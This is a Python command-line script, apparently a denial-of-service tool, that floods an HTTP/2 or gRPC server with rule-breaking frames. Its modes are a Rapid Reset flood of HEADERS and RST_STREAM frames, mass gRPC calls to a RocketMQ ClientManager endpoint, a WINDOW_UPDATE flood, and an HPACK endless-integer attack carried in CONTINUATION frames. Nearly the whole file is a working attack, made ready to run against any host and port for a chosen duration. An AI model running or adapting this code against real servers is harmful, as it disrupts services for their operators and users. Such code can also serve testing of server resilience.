"""A connection of frames that keep no rule: flood.py HOST:PORT KIND SECONDS.

Comes from an address of its own, and again when the other side ends its connection.
"""

import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE = 1, 3, 4, 8
END_STREAM, END_HEADERS = 1, 4
# Streams of a block that is made beforehand.
STREAMS = 20000


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def call_headers():
    """The same for each stream: nothing goes into HPACK's table."""
    return hpack.Encoder().encode([
        (":method", "POST", True), (":scheme", "http", True),
        (":path", "/rocketmq.clientmanager.v1.ClientManager/Connect", True), (":authority", "attacker", True),
        ("te", "trailers", True), ("content-type", "application/grpc", True)])


def rapid_reset():
    headers = call_headers()
    return b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, headers) + frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", 8))
                    for i in range(STREAMS))


def calls():
    headers = call_headers()
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, headers) for i in range(STREAMS))


def window_update():
    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * STREAMS


def hpack_zeros():
    # An integer that goes on and on, in a block that does.
    first = frame(HEADERS, 0, 1, b"\x0f\x80" + b"\x80" * 16000)
    return first + frame(9, 0, 1, b"\x80" * 16384) * 200


def main():
    address, kind, seconds = sys.argv[1:]
    block = {"rapid_reset": rapid_reset, "calls": calls, "window_update": window_update, "hpack_zeros": hpack_zeros}[kind]()
    host, port = address.rsplit(":", 1)
    deadline = time.monotonic() + float(seconds)
    while time.monotonic() < deadline:
        try:
            with socket.create_connection((host, int(port)), timeout=5,
                                          source_address=("127.0.0.2", 0)) as connection:
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
                connection.settimeout(1)
                while time.monotonic() < deadline:
                    connection.sendall(block)
        except OSError:
            time.sleep(0.01)


if __name__ == "__main__":
    main()
